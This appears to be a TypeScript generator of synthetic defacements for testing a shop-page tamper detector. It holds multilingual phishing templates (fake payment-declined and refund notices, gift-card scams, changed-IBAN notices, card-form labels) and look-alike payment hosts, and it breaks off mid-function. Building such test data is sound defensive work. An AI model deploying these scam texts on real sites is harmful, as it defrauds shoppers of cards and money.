/**
 * Fresh37 defacement classes: written by a helper session that does
 * not read the engines, from the point of view of the security lead of a
 * regional chain of independent online shops working with a payment-service
 * provider's merchant-risk team (2025–2026). The attacks are the ones such a
 * team sees on checkout, product and contact pages: card skimmers (loaded or
 * inline), fake payment iframes and card forms, hosted-payment links and
 * forms rerouted, bank-transfer details and QR codes for bank apps swapped,
 * gift-card and loyalty scams, fake "problem with your order" and refund
 * notices, customer-service numbers, e-mails, chat handles, payment handles,
 * wallets and social profiles changed, conditional redirects to fake shops,
 * product pages turned into spam, fake clearance sales or a whole fake
 * storefront, loud "hacked" pages. They are spread over three
 * questions: what a visitor sees, where the page sends visitors and their
 * data, and identifiers visitors copy or trust. Each varies wording,
 * language (the site's own most of the time), placement, hosts and numbers
 * with the rng. Recalled from memory without internet access of public
 * write-ups (Sansec and Malwarebytes on Magecart skimmers and fake payment
 * forms, Sucuri on redirects and SEO spam, Unit 42 on fake shops, Zone-H
 * style defacement archives, CERT and bank advisories on invoice and IBAN
 * diversion, gift-card and refund scams, OWASP client-side security); details
 * may differ. Scored in the `fresh37` group, never tuned on.
 */
import { type ChangeClass, bottom, brandName, forms, head, lineAfter, occurrences, resolve, setAttr, shown, siteOr, top } from "./classes.js"
import { type Page, makeWallet, priceRe } from "./corpus.js"
import { type Change, type Splice, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, groupIban, locales, makePhone, swapPhone } from "./locales.js"
import { type El, type Range, insideRaw } from "./locate.js"
import { type Rng, alnum, between, chance, digits, hex, pick, upper } from "./rng.js"
import { brandLookalike, libLookalike, nick, randomDomain, scriptPath, team } from "./words.js"

const deface = (name: string, make: (page: Page, rng: Rng) => Change, extra: Partial<ChangeClass> = {}): ChangeClass =>
  ({ name: `fresh37-${name}`, kind: "defacement", group: "fresh37", make, ...extra })

type T<A> = Record<Lang, A>

// ———————————————————————————— helpers ————————————————————————————

const usable = (page: Page, e: El) => !e.inert && !insideRaw(page.spots, e.start)
const rawInside = (page: Page, r: Range): boolean => page.spots.raw.some((x) => (x.start < r.end && x.end > r.start) || (x.start >= r.start && x.end <= r.end))
const occ = (page: Page, value: string): Array<Range> => occurrences(page, value).filter((r) => !rawInside(page, r))
const everywhere = (page: Page, pairs: ReadonlyArray<readonly [string, string]>): Array<Splice> => {
  const taken: Array<Range> = []
  const out: Array<Splice> = []
  for (const [from, to] of pairs) {
    if (from === "" || from === to) continue
    for (const r of occ(page, from)) {
      if (taken.some((t) => r.start < t.end && r.end > t.start)) continue
      taken.push(r)
      out.push(replace(r, to))
    }
  }
  return out
}
const lineBeside = (page: Page, needles: ReadonlyArray<string>, html: string, fallback: number): Splice => {
  for (const n of needles) {
    const l = lineAfter(page, n)
    if (l !== null) return insert(l.at, l.wrap(html))
  }
  return insert(fallback, `<p>${html}</p>`)
}
const fill = (s: string, vars: Readonly<Record<string, string>>) => s.replace(/\{(\w+)\}/g, (_, k: string) => vars[k] ?? "")
const blockSpot = (rng: Rng, page: Page) => pick(rng, [top(page), top(page), slotAt(page.spots, "top"), slotAt(page.spots, "middle")])
const bare = (page: Page) => page.site.brand.replace(/[^a-z0-9]/gi, "").toLowerCase() || "shop"
const contactNeedles = (page: Page) => [page.ids.phone.intl, page.ids.phone.national, page.ids.email].filter((s) => s !== "")
const orderNo = (rng: Rng) => pick(rng, [`#${between(rng, 10000, 99999)}`, `${upper(rng, 2)}-${digits(rng, 6)}`, `#${digits(rng, 4)}-${digits(rng, 3)}`, `${between(rng, 100000, 999999)}`])
const amount = (page: Page, rng: Rng, lo: number, hi: number) => page.site.locale.money(between(rng, lo, hi) + pick(rng, [0, 0.5, 0.99, 0.9, 0.45]))
const payHost = (rng: Rng, page: Page) =>
  pick(rng, [
    () => brandLookalike(rng, page.site.brand),
    () => `${pick(rng, ["secure", "pay", "checkout", "payment", "3ds", "verify"])}-${pick(rng, ["stripe", "adyen", "mollie", "paypal", "klarna", "worldline", "sumup", "checkout"])}${pick(rng, ["", "-eu", "-gateway", "-portal"])}.${pick(rng, ["com", "net", "online", "site", "top", "shop", "info"])}`,
    () => randomDomain(rng)
  ])()
const fakeShopHost = (rng: Rng) =>
  `${pick(rng, ["outlet", "sale", "deals", "clearance", "store", "shop", "mega", "best"])}${pick(rng, ["-", ""])}${pick(rng, ["brands", "discount", "offer", "market", "fashion", "home", "style", "center"])}${chance(rng, 0.4) ? between(rng, 1, 99) : ""}.${pick(rng, ["shop", "store", "top", "online", "xyz", "com", "vip", "live"])}`
/** A look-alike IBAN for the site's country, or a mule account abroad (what diversion fraud uses). */
const muleIban = (rng: Rng, page: Page): string => {
  const own = page.site.locale.iban
  const loc = own !== null && chance(rng, 0.6) ? page.site.locale : pick(rng, locales.filter((l) => l.iban !== null))
  const v = loc.iban!(rng)
  return chance(rng, 0.7) ? groupIban(v) : v
}
const people = ["Daniel Schmitt", "Laura Martin", "Marco Rossi", "Sanne de Vries", "Pedro Almeida", "Lucía García", "James Walker", "Anna Weber", "Nadia Benali", "Tomasz Nowak"]
const pageLines = (page: Page, rng: Rng, html: string) => lineBeside(page, contactNeedles(page), html, blockSpot(rng, page))
const banner = (rng: Rng, inner: string) => {
  const bg = pick(rng, ["#c62828", "#b71c1c", "#ffecb3", "#fff3cd", "#e3f2fd", "#111", "#0d47a1", "#f8d7da"])
  const fg = /^#(f|e)/.test(bg) ? "#222" : "#fff"
  return `<div class="${pick(rng, ["notice", "alert", "site-notice", "checkout-alert", "top-banner", "announcement"])}" style="background:${bg};color:${fg};padding:${between(rng, 8, 20)}px;text-align:center;font-size:${between(rng, 14, 22)}px">${inner}</div>`
}
const priceRaw = (page: Page): Array<Range> => {
  const out: Array<Range> = []
  const re = new RegExp(priceRe.source, "g")
  for (const t of page.spots.texts) {
    const raw = page.html.slice(t.start, t.end)
    for (const m of raw.matchAll(re)) {
      const r = { start: t.start + m.index!, end: t.start + m.index! + m[0].length }
      if (!rawInside(page, r)) out.push(r)
    }
  }
  return out
}
/** The same price string with its amount scaled by `f` (decimal separator kept). */
const rescale = (s: string, f: number): string =>
  s.replace(/\d[\d.,\u00a0\u202f]*\d|\d/, (num) => {
    const dec = /[.,]\d{2}$/.test(num) ? num[num.length - 3]! : null
    const intPart = dec === null ? num : num.slice(0, -3)
    // (thousands grouped as written: "1,299.00", "1.299,00", "752,708")
    const sep = /[.,\u00a0\u202f]/.exec(intPart)?.[0] ?? ""
    const group = (d: string) => sep === "" ? d : d.replace(/\B(?=(\d{3})+$)/g, sep)
    const cents = dec === null ? 0 : Number(num.slice(-2)) / 100
    const v = Number(intPart.replace(/[^\d]/g, "")) + cents
    const n = Math.max(0.99, v * f)
    return dec === null ? group(String(Math.max(1, Math.round(n)))) : group(Math.floor(n).toString()) + dec + n.toFixed(2).slice(-2)
  })

// ———————————————————————————— what a visitor sees ————————————————————————————

const orderProblem: T<ReadonlyArray<string>> = {
  en: ["Problem with your order {order}: your payment of {amount} was declined. Please <a href=\"{url}\">confirm your card details</a> within 24 hours or the order will be cancelled.", "Action required: order {order} is on hold. Your bank rejected the payment ({amount}). <a href=\"{url}\">Update payment</a>"],
  fr: ["Problème avec votre commande {order} : le paiement de {amount} a été refusé. <a href=\"{url}\">Confirmez vos informations de carte</a> sous 24 heures, sinon la commande sera annulée.", "Action requise : commande {order} en attente, paiement de {amount} rejeté par votre banque. <a href=\"{url}\">Mettre à jour le paiement</a>"],
  de: ["Problem mit Ihrer Bestellung {order}: Ihre Zahlung über {amount} wurde abgelehnt. Bitte <a href=\"{url}\">bestätigen Sie Ihre Kartendaten</a> innerhalb von 24 Stunden, sonst wird die Bestellung storniert.", "Handlungsbedarf: Bestellung {order} angehalten, Zahlung ({amount}) von Ihrer Bank abgelehnt. <a href=\"{url}\">Zahlung aktualisieren</a>"],
  es: ["Problema con tu pedido {order}: el pago de {amount} fue rechazado. <a href=\"{url}\">Confirma los datos de tu tarjeta</a> en 24 horas o el pedido se cancelará.", "Acción necesaria: pedido {order} retenido, tu banco rechazó el pago ({amount}). <a href=\"{url}\">Actualizar pago</a>"],
  nl: ["Probleem met je bestelling {order}: je betaling van {amount} is geweigerd. <a href=\"{url}\">Bevestig je kaartgegevens</a> binnen 24 uur, anders wordt de bestelling geannuleerd.", "Actie vereist: bestelling {order} staat in de wacht, betaling ({amount}) geweigerd. <a href=\"{url}\">Betaling bijwerken</a>"],
  pt: ["Problema com o seu pedido {order}: o pagamento de {amount} foi recusado. <a href=\"{url}\">Confirme os dados do cartão</a> em 24 horas ou o pedido será cancelado.", "Ação necessária: pedido {order} retido, pagamento ({amount}) recusado pelo banco. <a href=\"{url}\">Atualizar pagamento</a>"],
  it: ["Problema con il tuo ordine {order}: il pagamento di {amount} è stato rifiutato. <a href=\"{url}\">Conferma i dati della carta</a> entro 24 ore o l'ordine verrà annullato.", "Azione richiesta: ordine {order} sospeso, pagamento ({amount}) rifiutato dalla banca. <a href=\"{url}\">Aggiorna il pagamento</a>"]
}

const refund: T<ReadonlyArray<string>> = {
  en: ["Refund notice: you were charged twice for a recent purchase. Claim your refund of {amount} <a href=\"{url}\">here</a> (valid until midnight).", "Good news! A refund of {amount} is waiting for you. <a href=\"{url}\">Enter your card to receive it</a>."],
  fr: ["Avis de remboursement : vous avez été débité deux fois. Réclamez votre remboursement de {amount} <a href=\"{url}\">ici</a> (valable jusqu'à minuit).", "Bonne nouvelle ! Un remboursement de {amount} vous attend. <a href=\"{url}\">Saisissez votre carte pour le recevoir</a>."],
  de: ["Erstattungshinweis: Ihnen wurde ein Einkauf doppelt berechnet. Fordern Sie Ihre Erstattung von {amount} <a href=\"{url}\">hier</a> an (nur heute gültig).", "Gute Nachricht! Eine Rückerstattung von {amount} wartet auf Sie. <a href=\"{url}\">Karte eingeben und Betrag erhalten</a>."],
  es: ["Aviso de reembolso: se te cobró dos veces. Reclama tu reembolso de {amount} <a href=\"{url}\">aquí</a> (válido hasta medianoche).", "¡Buenas noticias! Tienes un reembolso de {amount} pendiente. <a href=\"{url}\">Introduce tu tarjeta para recibirlo</a>."],
  nl: ["Terugbetaling: er is twee keer afgeschreven voor een recente aankoop. Vraag je terugbetaling van {amount} <a href=\"{url}\">hier</a> aan (alleen vandaag).", "Goed nieuws! Er staat een terugbetaling van {amount} voor je klaar. <a href=\"{url}\">Vul je kaart in om die te ontvangen</a>."],
  pt: ["Aviso de reembolso: você foi cobrado duas vezes. Solicite o reembolso de {amount} <a href=\"{url}\">aqui</a> (válido até meia-noite).", "Boa notícia! Um reembolso de {amount} está à sua espera. <a href=\"{url}\">Informe o cartão para recebê-lo</a>."],
  it: ["Avviso di rimborso: ti è stato addebitato due volte un acquisto. Richiedi il rimborso di {amount} <a href=\"{url}\">qui</a> (valido fino a mezzanotte).", "Buone notizie! Un rimborso di {amount} ti aspetta. <a href=\"{url}\">Inserisci la carta per riceverlo</a>."]
}

const giftCard: T<ReadonlyArray<string>> = {
  en: ["Loyalty reward: pay with {cards} gift cards and get {pct}% off every order. Send the card codes to our billing team on WhatsApp {phone}.", "Members only: buy {cards} gift cards worth {amount} and reply with the code to {mail} to unlock {pct}% off."],
  fr: ["Programme fidélité : payez en cartes cadeaux {cards} et obtenez {pct} % de remise. Envoyez les codes à notre service facturation sur WhatsApp {phone}.", "Réservé aux membres : achetez une carte {cards} de {amount} et envoyez le code à {mail} pour débloquer {pct} % de remise."],
  de: ["Treueprämie: Bezahlen Sie mit {cards}-Gutscheinkarten und erhalten Sie {pct} % Rabatt. Senden Sie die Codes per WhatsApp an {phone}.", "Nur für Mitglieder: Kaufen Sie eine {cards}-Karte über {amount} und schicken Sie den Code an {mail}, um {pct} % Rabatt freizuschalten."],
  es: ["Recompensa de fidelidad: paga con tarjetas regalo {cards} y obtén un {pct} % de descuento. Envía los códigos a facturación por WhatsApp {phone}.", "Solo socios: compra una tarjeta {cards} de {amount} y envía el código a {mail} para desbloquear un {pct} % de descuento."],
  nl: ["Spaarbeloning: betaal met {cards}-cadeaukaarten en krijg {pct}% korting. Stuur de codes via WhatsApp naar {phone}.", "Alleen voor leden: koop een {cards}-kaart van {amount} en stuur de code naar {mail} voor {pct}% korting."],
  pt: ["Recompensa de fidelidade: pague com cartões-presente {cards} e ganhe {pct}% de desconto. Envie os códigos pelo WhatsApp {phone}.", "Só para membros: compre um cartão {cards} de {amount} e envie o código para {mail} para liberar {pct}% de desconto."],
  it: ["Premio fedeltà: paga con gift card {cards} e ottieni il {pct}% di sconto. Invia i codici al nostro ufficio su WhatsApp {phone}.", "Solo per i membri: acquista una carta {cards} da {amount} e invia il codice a {mail} per sbloccare il {pct}% di sconto."]
}

const clearance: T<ReadonlyArray<string>> = {
  en: ["CLOSING DOWN SALE – everything {pct}% off, today only!", "Warehouse clearance: all items {pct}% off while stock lasts"],
  fr: ["LIQUIDATION TOTALE – tout à -{pct} %, aujourd'hui seulement !", "Déstockage : tous les articles à -{pct} % dans la limite des stocks"],
  de: ["RÄUMUNGSVERKAUF – alles {pct} % reduziert, nur heute!", "Lagerräumung: alle Artikel {pct} % günstiger, solange der Vorrat reicht"],
  es: ["LIQUIDACIÓN POR CIERRE – todo al {pct} % de descuento, ¡solo hoy!", "Liquidación de almacén: todo con {pct} % de descuento hasta agotar existencias"],
  nl: ["OPHEFFINGSUITVERKOOP – alles {pct}% korting, alleen vandaag!", "Magazijnopruiming: alle artikelen {pct}% korting zolang de voorraad strekt"],
  pt: ["LIQUIDAÇÃO TOTAL – tudo com {pct}% de desconto, só hoje!", "Queima de estoque: todos os itens com {pct}% de desconto"],
  it: ["SVENDITA TOTALE PER CHIUSURA – tutto scontato del {pct}%, solo oggi!", "Svuota magazzino: tutti gli articoli al {pct}% di sconto fino a esaurimento"]
}
const orderVia: T<string> = {
  en: "Order at", fr: "Commandez sur", de: "Bestellen unter", es: "Compra en", nl: "Bestel via", pt: "Compre em", it: "Ordina su"
}

const spamWords = [
  ["replica watches", "cheap rolex", "luxury replica", "swiss made copies"],
  ["nike outlet", "cheap jordans", "yeezy sale", "sneakers 90% off"],
  ["viagra online", "cialis no prescription", "generic pills", "pharmacy discount"],
  ["slot gacor", "situs slot online", "bonus new member 100", "judi online"],
  ["cheap louis vuitton", "designer bags outlet", "michael kors sale", "gucci replica"]
]

const hackedBy: ReadonlyArray<string> = [
  "Your shop has been hacked", "Security? What security?", "Owned. Your customers' cards are not safe here", "Hacked by {who}", "This store is closed by {who}"
]


const loyalty: T<ReadonlyArray<string>> = {
  en: ["Your {pts} loyalty points expire today! Convert them into a {amount} voucher: <a href=\"{url}\">redeem now</a> (small handling fee by card).", "Customer reward: you have been selected for a {amount} gift voucher. <a href=\"{url}\">Claim it</a> – only the {fee} shipping is payable."],
  fr: ["Vos {pts} points fidélité expirent aujourd'hui ! Convertissez-les en bon de {amount} : <a href=\"{url}\">j'en profite</a> (frais de dossier par carte).", "Récompense client : vous avez été sélectionné pour un bon d'achat de {amount}. <a href=\"{url}\">Réclamez-le</a> – seuls {fee} de frais de port sont à payer."],
  de: ["Ihre {pts} Treuepunkte verfallen heute! Jetzt in einen Gutschein über {amount} umwandeln: <a href=\"{url}\">einlösen</a> (geringe Bearbeitungsgebühr per Karte).", "Kundenprämie: Sie wurden für einen Gutschein über {amount} ausgewählt. <a href=\"{url}\">Jetzt sichern</a> – nur {fee} Versand."],
  es: ["¡Tus {pts} puntos de fidelidad caducan hoy! Conviértelos en un vale de {amount}: <a href=\"{url}\">canjear ahora</a> (pequeña comisión con tarjeta).", "Premio para clientes: has sido seleccionado para un vale de {amount}. <a href=\"{url}\">Reclámalo</a>, solo pagas {fee} de envío."],
  nl: ["Je {pts} spaarpunten verlopen vandaag! Zet ze om in een tegoedbon van {amount}: <a href=\"{url}\">nu inwisselen</a> (kleine administratiekosten per kaart).", "Klantbeloning: je bent geselecteerd voor een cadeaubon van {amount}. <a href=\"{url}\">Claim hem</a> – je betaalt alleen {fee} verzendkosten."],
  pt: ["Seus {pts} pontos de fidelidade expiram hoje! Troque por um vale de {amount}: <a href=\"{url}\">resgatar agora</a> (pequena taxa no cartão).", "Prêmio ao cliente: você foi selecionado para um vale de {amount}. <a href=\"{url}\">Resgate</a> – pague apenas {fee} de frete."],
  it: ["I tuoi {pts} punti fedeltà scadono oggi! Convertili in un buono da {amount}: <a href=\"{url}\">riscatta ora</a> (piccola commissione con carta).", "Premio clienti: sei stato selezionato per un buono da {amount}. <a href=\"{url}\">Richiedilo</a> – paghi solo {fee} di spedizione."]
}
const shopWords: T<readonly [string, string, string, ReadonlyArray<string>]> = {
  en: ["Official online store – up to 80% off", "Add to cart", "Free shipping worldwide · Secure payment", ["Running shoes", "Leather handbag", "Smart watch", "Wireless earbuds", "Down jacket", "Sunglasses"]],
  fr: ["Boutique officielle – jusqu'à -80 %", "Ajouter au panier", "Livraison gratuite · Paiement sécurisé", ["Baskets de running", "Sac à main en cuir", "Montre connectée", "Écouteurs sans fil", "Doudoune", "Lunettes de soleil"]],
  de: ["Offizieller Online-Shop – bis zu 80 % Rabatt", "In den Warenkorb", "Kostenloser Versand · Sichere Zahlung", ["Laufschuhe", "Ledertasche", "Smartwatch", "Kabellose Kopfhörer", "Daunenjacke", "Sonnenbrille"]],
  es: ["Tienda oficial – hasta un 80 % de descuento", "Añadir al carrito", "Envío gratis · Pago seguro", ["Zapatillas de running", "Bolso de piel", "Reloj inteligente", "Auriculares inalámbricos", "Plumífero", "Gafas de sol"]],
  nl: ["Officiële webshop – tot 80% korting", "In winkelwagen", "Gratis verzending · Veilig betalen", ["Hardloopschoenen", "Leren handtas", "Smartwatch", "Draadloze oordopjes", "Donsjas", "Zonnebril"]],
  pt: ["Loja oficial – até 80% de desconto", "Adicionar ao carrinho", "Frete grátis · Pagamento seguro", ["Tênis de corrida", "Bolsa de couro", "Relógio inteligente", "Fones sem fio", "Jaqueta puffer", "Óculos de sol"]],
  it: ["Negozio ufficiale – fino all'80% di sconto", "Aggiungi al carrello", "Spedizione gratuita · Pagamento sicuro", ["Scarpe da corsa", "Borsa in pelle", "Smartwatch", "Auricolari wireless", "Piumino", "Occhiali da sole"]]
}

// ———————————————————————————— where the page sends ————————————————————————————

const payNow: T<ReadonlyArray<string>> = {
  en: ["Pay now securely", "Complete your payment", "Proceed to secure checkout"],
  fr: ["Payer maintenant en toute sécurité", "Finaliser votre paiement", "Accéder au paiement sécurisé"],
  de: ["Jetzt sicher bezahlen", "Zahlung abschließen", "Zur sicheren Kasse"],
  es: ["Pagar ahora de forma segura", "Completa tu pago", "Ir al pago seguro"],
  nl: ["Nu veilig betalen", "Rond je betaling af", "Naar de veilige kassa"],
  pt: ["Pagar agora com segurança", "Concluir pagamento", "Ir para o checkout seguro"],
  it: ["Paga ora in sicurezza", "Completa il pagamento", "Vai al checkout sicuro"]
}
const cardForm: T<readonly [string, string, string, string, string, string]> = {
  en: ["Verify your card to complete your order", "Name on card", "Card number", "Expiry (MM/YY)", "Security code (CVV)", "Verify and pay"],
  fr: ["Vérifiez votre carte pour finaliser la commande", "Titulaire de la carte", "Numéro de carte", "Expiration (MM/AA)", "Cryptogramme (CVV)", "Vérifier et payer"],
  de: ["Bestätigen Sie Ihre Karte, um die Bestellung abzuschließen", "Karteninhaber", "Kartennummer", "Gültig bis (MM/JJ)", "Prüfziffer (CVC)", "Bestätigen und bezahlen"],
  es: ["Verifica tu tarjeta para completar el pedido", "Titular de la tarjeta", "Número de tarjeta", "Caducidad (MM/AA)", "Código de seguridad (CVV)", "Verificar y pagar"],
  nl: ["Verifieer je kaart om je bestelling af te ronden", "Naam op kaart", "Kaartnummer", "Vervaldatum (MM/JJ)", "Beveiligingscode (CVC)", "Verifiëren en betalen"],
  pt: ["Verifique seu cartão para concluir o pedido", "Nome no cartão", "Número do cartão", "Validade (MM/AA)", "Código de segurança (CVV)", "Verificar e pagar"],
  it: ["Verifica la carta per completare l'ordine", "Titolare della carta", "Numero della carta", "Scadenza (MM/AA)", "Codice di sicurezza (CVV)", "Verifica e paga"]
}
const scanQr: T<ReadonlyArray<string>> = {
  en: ["Pay instantly: scan this code with your banking app", "New! Pay by bank transfer in seconds – scan with your bank app"],
  fr: ["Payez instantanément : scannez ce code avec votre application bancaire", "Nouveau ! Virement instantané – scannez avec l'appli de votre banque"],
  de: ["Sofort bezahlen: Code mit Ihrer Banking-App scannen", "Neu! Überweisung in Sekunden – mit der Banking-App scannen"],
  es: ["Paga al instante: escanea este código con la app de tu banco", "¡Nuevo! Transferencia en segundos, escanea con tu app bancaria"],
  nl: ["Direct betalen: scan deze code met je bankapp", "Nieuw! Betaal in seconden – scan met je bankapp"],
  pt: ["Pague na hora: escaneie este código no app do seu banco", "Novo! Transferência em segundos – escaneie no app do banco"],
  it: ["Paga subito: inquadra il codice con l'app della tua banca", "Novità! Bonifico istantaneo – inquadra con l'app della banca"]
}
const invoice: T<ReadonlyArray<string>> = {
  en: ["Download your invoice {order}", "Your order confirmation {order} (PDF)", "Shipping label for order {order}"],
  fr: ["Télécharger votre facture {order}", "Confirmation de commande {order} (PDF)", "Étiquette d'expédition de la commande {order}"],
  de: ["Rechnung {order} herunterladen", "Ihre Bestellbestätigung {order} (PDF)", "Versandetikett zur Bestellung {order}"],
  es: ["Descarga tu factura {order}", "Confirmación del pedido {order} (PDF)", "Etiqueta de envío del pedido {order}"],
  nl: ["Download je factuur {order}", "Je orderbevestiging {order} (PDF)", "Verzendlabel voor bestelling {order}"],
  pt: ["Baixe sua fatura {order}", "Confirmação do pedido {order} (PDF)", "Etiqueta de envio do pedido {order}"],
  it: ["Scarica la tua fattura {order}", "Conferma d'ordine {order} (PDF)", "Etichetta di spedizione dell'ordine {order}"]
}

// ———————————————————————————— identifiers ————————————————————————————

const newAccount: T<ReadonlyArray<string>> = {
  en: ["Please note our bank details have changed. Pay by transfer only to: IBAN {iban} ({name})", "Card payments temporarily unavailable. Bank transfer to IBAN {iban}, beneficiary {name}"],
  fr: ["Attention, nos coordonnées bancaires ont changé. Virement uniquement vers : IBAN {iban} ({name})", "Paiement par carte momentanément indisponible. Virement sur l'IBAN {iban}, bénéficiaire {name}"],
  de: ["Bitte beachten: Unsere Bankverbindung hat sich geändert. Überweisung nur noch an IBAN {iban} ({name})", "Kartenzahlung vorübergehend nicht möglich. Überweisung an IBAN {iban}, Empfänger {name}"],
  es: ["Atención: nuestros datos bancarios han cambiado. Transferencia solo a: IBAN {iban} ({name})", "Pago con tarjeta no disponible temporalmente. Transferencia al IBAN {iban}, titular {name}"],
  nl: ["Let op: onze bankgegevens zijn gewijzigd. Maak alleen over naar IBAN {iban} ({name})", "Kaartbetaling tijdelijk niet mogelijk. Overmaken naar IBAN {iban} t.n.v. {name}"],
  pt: ["Atenção: nossos dados bancários mudaram. Transfira apenas para: IBAN {iban} ({name})", "Pagamento com cartão indisponível. Transferência para o IBAN {iban}, titular {name}"],
  it: ["Attenzione: le nostre coordinate bancarie sono cambiate. Bonifico solo su IBAN {iban} ({name})", "Pagamento con carta non disponibile. Bonifico su IBAN {iban}, intestato a {name}"]
}
const chatLine: T<readonly [string, string]> = {
  en: ["Customer service on WhatsApp (24/7): {link}", "Order questions? Chat with us on Telegram: {link}"],
  fr: ["Service client sur WhatsApp (7j/7) : {link}", "Une question sur votre commande ? Écrivez-nous sur Telegram : {link}"],
  de: ["Kundenservice per WhatsApp (24/7): {link}", "Fragen zur Bestellung? Schreiben Sie uns auf Telegram: {link}"],
  es: ["Atención al cliente por WhatsApp (24/7): {link}", "¿Dudas con tu pedido? Escríbenos por Telegram: {link}"],
  nl: ["Klantenservice via WhatsApp (24/7): {link}", "Vragen over je bestelling? Chat met ons op Telegram: {link}"],
  pt: ["Atendimento pelo WhatsApp (24h): {link}", "Dúvidas sobre o pedido? Fale conosco no Telegram: {link}"],
  it: ["Assistenza clienti su WhatsApp (24/7): {link}", "Domande sull'ordine? Scrivici su Telegram: {link}"]
}
const cryptoLine: T<string> = {
  en: "We now accept crypto payments – 10% discount. Send {coin} to", fr: "Nous acceptons désormais les cryptomonnaies – 10 % de remise. Envoyez des {coin} à",
  de: "Jetzt auch mit Krypto bezahlen – 10 % Rabatt. {coin} senden an", es: "Ahora aceptamos criptomonedas – 10 % de descuento. Envía {coin} a",
  nl: "Nu ook betalen met crypto – 10% korting. Stuur {coin} naar", pt: "Agora aceitamos cripto – 10% de desconto. Envie {coin} para",
  it: "Ora accettiamo criptovalute – 10% di sconto. Invia {coin} a"
}

const lookalikeName = (rng: Rng, page: Page) => {
  const b = bare(page)
  return pick(rng, [`${b}${pick(rng, ["_support", "_help", ".service", "_care", "official", "_shop", "-orders"])}`, `${b}${digits(rng, 2)}`, `${pick(rng, ["real", "the", "official"])}${b}`, `${b}_${pick(rng, ["refunds", "billing", "team"])}`])
}

export const fresh37Defacements: ReadonlyArray<ChangeClass> = [
  // ——— what a visitor sees ———
  deface("order-problem-notice", (page, rng) => {
    const url = `https://${payHost(rng, page)}/${pick(rng, ["order", "payment", "verify", "update"])}/${alnum(rng, 10)}`
    const html = fill(pick(rng, siteOr(rng, page, orderProblem)), { order: esc(orderNo(rng)), amount: esc(amount(page, rng, 19, 480)), url })
    return splices(insert(blockSpot(rng, page), banner(rng, html)))
  }),
  deface("refund-claim-banner", (page, rng) => {
    const url = `https://${payHost(rng, page)}/${pick(rng, ["refund", "claim", "remboursement", "erstattung", "reembolso"])}?id=${alnum(rng, 12)}`
    const html = fill(pick(rng, siteOr(rng, page, refund)), { amount: esc(amount(page, rng, 12, 260)), url })
    return splices(insert(pick(rng, [top(page), slotAt(page.spots, "middle"), bottom(page)]), banner(rng, html)))
  }),
  deface("giftcard-loyalty-scam", (page, rng) => {
    const phone = makePhone(page.site.locale, between(rng, 0, 5), rng)
    const mail = `${pick(rng, ["billing", "rewards", "loyalty", "giftcards", "vip"])}.${bare(page)}@${pick(rng, ["gmail.com", "outlook.com", "proton.me", "yahoo.com"])}`
    const html = fill(pick(rng, siteOr(rng, page, giftCard)), {
      cards: pick(rng, ["Apple", "Google Play", "Amazon", "Steam", "Paysafecard", "Neosurf"]), pct: String(pick(rng, [20, 25, 30, 40, 50])),
      phone: esc(phone.intl), mail: esc(mail), amount: esc(page.site.locale.money(pick(rng, [50, 100, 150, 200, 250])))
    })
    return splices(insert(blockSpot(rng, page), chance(rng, 0.5) ? banner(rng, html) : `<p class="loyalty"><strong>${html}</strong></p>`))
  }),
  deface("fake-clearance-shop", (page, rng) => {
    const host = fakeShopHost(rng)
    const head1 = fill(pick(rng, siteOr(rng, page, clearance)), { pct: String(pick(rng, [60, 70, 75, 80, 85, 90])) })
    const link = `<a href="https://${host}/?ref=${bare(page)}" style="font-weight:bold">${orderVia[page.site.locale.lang]} ${host}</a>`
    const cut = pick(rng, [0.1, 0.15, 0.2, 0.25])
    const prices = priceRaw(page).slice(0, between(rng, 3, 40)).map((r) => replace(r, esc(rescale(page.html.slice(r.start, r.end), cut))))
    return splices(insert(top(page), banner(rng, `${esc(head1)} ${link}`)), ...prices)
  }),
  deface("product-page-spam", (page, rng) => {
    const ws = pick(rng, spamWords)
    const host = chance(rng, 0.5) ? fakeShopHost(rng) : randomDomain(rng)
    const items = Array.from({ length: between(rng, 4, 14) }, () => {
      const w = pick(rng, ws)
      return `<li><a href="https://${host}/${w.replace(/\s+/g, "-")}-${between(rng, 10, 999)}.html">${esc(w)} ${pick(rng, ["buy now", "free shipping", "2026", "outlet", "best price", "online"])}</a></li>`
    })
    const ts = page.spots.title
    const t = ts !== null && !rawInside(page, ts) && chance(rng, 0.6) ? [replace(ts, esc(`${cap1(pick(rng, ws))} | ${pick(rng, ws)} – ${pick(rng, ["cheap", "sale", "official store", "up to 90% off"])}`))] : []
    return splices(...t, insert(pick(rng, [slotAt(page.spots, "middle"), bottom(page), slotAt(page.spots, "top")]), `<div class="${pick(rng, ["related", "tags", "seo-links", "popular"])}"><h3>${esc(cap1(pick(rng, ws)))}</h3><ul>${items.join("")}</ul></div>`))
  }),
  deface("shop-hacked-page", (page, rng) => {
    const who = chance(rng, 0.5) ? nick(rng) : team(rng)
    const msg = fill(pick(rng, hackedBy), { who: esc(who) })
    const extra = pick(rng, [
      `${esc(brandName(page))} stores card data in plain text. Fix your checkout.`,
      `Admin password: ${pick(rng, ["admin123", "shop2025", "password1", `${bare(page)}2026`])} – lol`,
      `Greetz: ${esc(nick(rng))}, ${esc(nick(rng))}, ${esc(nick(rng))}`,
      `Contact: ${pick(rng, ["t.me/", "telegram: @"])}${esc(nick(rng).replace(/[^A-Za-z0-9_]/g, ""))}`
    ])
    return {
      html: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${msg}</title></head><body style="background:#000;color:${pick(rng, ["#0f0", "#f00", "#fff", "#ff0"])};text-align:center;font-family:${pick(rng, ["monospace", "Courier New", "Arial"])}"><h1>${msg}</h1><p>${extra}</p>${chance(rng, 0.5) ? `<img src="https://${pick(rng, ["i.imgur.com", "i.ibb.co", "files.catbox.moe"])}/${alnum(rng, 7)}.${pick(rng, ["gif", "png", "jpg"])}" alt="">` : ""}</body></html>`
    }
  }, { wholePage: true }),

  deface("loyalty-points-expiry", (page, rng) => {
    const url = `https://${pick(rng, [() => brandLookalike(rng, page.site.brand), () => `${bare(page)}-${pick(rng, ["rewards", "club", "bonus", "points"])}.${pick(rng, ["com", "shop", "online", "info", "top"])}`, () => randomDomain(rng)])()}/${pick(rng, ["redeem", "rewards", "claim", "voucher"])}?c=${alnum(rng, 10)}`
    const html = fill(pick(rng, siteOr(rng, page, loyalty)), {
      pts: String(between(rng, 800, 9800)), amount: esc(page.site.locale.money(pick(rng, [50, 75, 100, 150, 200]))), fee: esc(page.site.locale.money(pick(rng, [1.95, 2.99, 1, 4.95]))), url
    })
